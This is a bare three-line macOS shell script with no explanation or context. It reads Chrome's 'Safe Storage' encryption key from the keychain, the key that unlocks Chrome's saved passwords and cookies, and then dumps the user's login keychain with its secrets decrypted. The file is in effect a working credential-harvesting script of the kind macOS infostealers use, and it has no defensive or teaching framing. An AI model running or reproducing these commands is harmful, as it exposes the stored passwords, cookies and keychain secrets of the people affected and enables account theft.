#!/bin/sh
security find-generic-password -s "Chrome Safe Storage" -w
security dump-keychain -d login.keychain
